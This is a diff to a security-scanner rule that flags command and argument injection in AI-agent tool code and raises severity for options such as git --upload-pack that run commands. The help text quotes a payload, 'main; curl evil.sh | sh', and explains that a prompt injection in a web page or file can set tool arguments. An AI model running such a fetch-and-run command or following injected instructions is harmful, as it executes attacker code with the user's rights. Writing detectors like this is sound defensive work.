@@ -4,7 +4,9 @@
 import { propertyName, unwrapExpression } from "../analyzer/parse/ast.js";
 import { NO_LEADING_DASH, type GuardKind, type SinkHit } from "../analyzer/taint/spec.js";
 import type { Rule } from "./types.js";
+import { optionInjectionReach } from "./models/commands.js";
 import { argumentVectorRisk } from "./util/argument-vector.js";
+import { declaredCapability } from "./util/declared-purpose.js";
 import { isUnsafe, reportFlow, untrustedFlows } from "./util/untrusted-flows.js";
 
 /** For an element in option position a pattern counts by its shape (can it start with `-`?), not by being a pattern. */
@@ -44,7 +46,7 @@ export const commandInjection: Rule = {
     cwe: [78, 88],
     summary: "A tool argument becomes part of a shell command line or the program to run.",
     description:
-      "A value the model chooses (a tool argument, which a prompt injection can set) reaches `exec`, `execSync`, a `spawn` with `shell: true`, `sh -c`, shelljs or the program position of `execFile`/`spawn` without an allow-list. Whoever writes the value runs commands as the user. Argument arrays without a shell are safer, but an argument that can start with `-` is still read as an option (`--upload-pack=...`): that is reported at medium.",
+      "A value the model chooses (a tool argument, which a prompt injection can set) reaches `exec`, `execSync`, a `spawn` with `shell: true`, `sh -c`, shelljs or the program position of `execFile`/`spawn` without an allow-list. Whoever writes the value runs commands as the user. Argument arrays without a shell are safer, but an argument that can start with `-` is still read as an option (`--upload-pack=...`): that is reported at medium, and at high for a program one of whose options carries a command (`git --upload-pack=…`, `rg --pre=…`, `tar --to-command=…`, rules/models/commands.ts). When the tool says this is what it is for (its name, description and schema declare the act and the argument is the whole command line), the finding is a capability: medium or low, listed under \"What it can do\", and the permission policy asks before each call; it stays an injection when the value crosses a boundary the code or the tool's text meant to keep.",
     help: [
       "**Why it matters.** A shell parses `;`, `&&`, `$(...)` and backticks: `branch = \"main; curl evil.sh | sh\"` runs the attacker's command with the user's rights. A prompt injection in any web page, issue or file the model reads can choose tool arguments.",
       "",
@@ -63,7 +65,8 @@ export const commandInjection: Rule = {
       const programPosition = u.hit.argument === "Argument[0]" || /^Argument\[0\]\.Member\[command\]$/.test(u.hit.argument);
       const shellLine = !programPosition || SHELL_STRING_API.test(u.hit.callee) || hasShellOption(u.hit);
       const what = shellLine ? "as part of a shell command line" : "as the program it runs";
-      reportFlow(ctx, u, what, SHELL_FIX);
+      const capability = declaredCapability(ctx, u);
+      reportFlow(ctx, u, what, capability?.advice ?? SHELL_FIX, undefined, "", capability);
     }
     for (const u of untrustedFlows(ctx, "command-argument", OPTION_GUARDS)) {
       const risk = argumentVectorRisk(u.hit, ctx.taint, u.flow);
@@ -76,7 +79,10 @@ export const commandInjection: Rule = {
       // In option position only a leading `-` matters: a value whose shape cannot start with one is an operand.
       const flow = u.hit.flows.find((f) => isUnsafe(ctx, f, "command-argument", OPTION_GUARDS, u.hit, cannotStartWithDash));
       if (!flow) continue;
-      reportFlow(ctx, { hit: u.hit, flow }, "in its argument array, where a value starting with `-` is read as an option (argument injection)", OPTION_FIX, "medium", "option");
+      // A program with an option that carries its own command (`git --upload-pack=…`): the option runs code.
+      const runs = optionInjectionReach(risk.program, risk.subcommand);
+      if (runs) reportFlow(ctx, { hit: u.hit, flow }, `in its argument array, where a value such as \`${runs.runsCode}…\` is read as an option of ${risk.program} that runs a command (argument injection)`, OPTION_FIX, "high", "option");
+      else reportFlow(ctx, { hit: u.hit, flow }, "in its argument array, where a value starting with `-` is read as an option (argument injection)", OPTION_FIX, "medium", "option");
     }
   },
 };
